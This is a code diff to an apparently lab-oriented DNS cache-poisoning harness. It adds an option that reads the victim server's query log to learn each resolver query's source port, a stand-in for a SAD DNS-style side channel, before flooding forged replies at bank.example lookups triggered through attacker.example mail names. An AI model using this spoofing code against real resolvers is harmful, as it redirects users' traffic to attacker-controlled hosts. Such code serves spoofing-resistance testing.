@@ -86,6 +86,11 @@ class AttackerJob:
     """`birthday`: identical questions per attempt."""
     mail_names: int = 400
     """`mail`: m0 .. m<N-1>.attacker.example have an MX in the victim zone."""
+    port_oracle: str | None = None
+    """A query log of the real server (the victim's), read for each trigger's source port:
+    a side channel that tells the attacker the port of every upstream query (as SAD DNS
+    infers it), so the flood always lands on the open socket. None: one port, told or
+    learned (`port`)."""
     paced: bool = True
     """Spread each window's forged replies evenly at `rate` (RFC 5452's R); False: send
     them as fast as the kernel takes them and wait out the rest of the window."""
@@ -251,6 +256,35 @@ def _logged(log: Path, qname: str, rdtype: str) -> dict[str, object] | None:
     return None
 
 
+class LogTail:
+    """New JSON lines of a query log since the last read (the log only grows)."""
+
+    def __init__(self, path: Path) -> None:
+        self.path = path
+        self.offset = path.stat().st_size if path.exists() else 0
+
+    def lines(self) -> list[dict[str, object]]:
+        if not self.path.exists():
+            return []
+        with self.path.open("rb") as handle:
+            handle.seek(self.offset)
+            data = handle.read()
+        end = data.rfind(b"\n") + 1  # a line still being written waits for the next read
+        self.offset += end
+        return [json.loads(line) for line in data[:end].splitlines() if line.strip()]
+
+
+def oracle_port(tail: LogTail, qname: str, timeout: float) -> int | None:
+    """The source port of the resolver's query for `qname`, once the server logged it."""
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        for record in tail.lines():
+            if str(record.get("qname", "")).lower() == qname:
+                return int(record["port"])  # type: ignore[call-overload]
+        time.sleep(0.0005)
+    return None
+
+
 def trigger_mail(job: AttackerJob, index: int, timeout: float = 3.0) -> bool:
     """Mail to m<index>.attacker.example; True once its MX question reached the attacker's
     server (the A lookup of x<index>.bank.example follows: flood now)."""
@@ -297,10 +331,11 @@ def run(job: AttackerJob) -> AttackerResult:
         return job.budget_seconds - (time.monotonic() - started)
 
     try:
-        if result.port is None:
+        oracle = LogTail(Path(job.port_oracle)) if job.port_oracle else None
+        if result.port is None and oracle is None:
             result.port = learn_port(client, Path(job.attacker_log), rng, zone=job.attacker_zone)
             result.port_learned = result.port is not None
-        if result.port is None:
+        if result.port is None and oracle is None:
             result.note = "could not learn the resolver's query port"
             return result
         per_window = max(1, int(job.rate * job.window))
@@ -325,7 +360,15 @@ def run(job: AttackerJob) -> AttackerResult:
                 else:
                     copies = job.duplicates if job.attack == "birthday" else 1
                     txids = [client.send(qname.to_text()) for _ in range(copies)]
-                time.sleep(TRIGGER_LEAD)
+                if oracle is not None:
+                    port = oracle_port(oracle, qname.to_text().lower(), job.window)
+                    if port is None:  # answered from the cache, or asked over TCP
+                        client.wait_any(txids, job.window + 2.0)
+                        continue
+                    result.port = port
+                else:
+                    time.sleep(TRIGGER_LEAD)
+                assert result.port is not None
                 sequence = GuessSequence.random(ID_SPACE, rng)
                 count = min(per_window, job.budget_packets - result.packets)
                 # N servers: the guesses are shared among them (the resolver picks one)
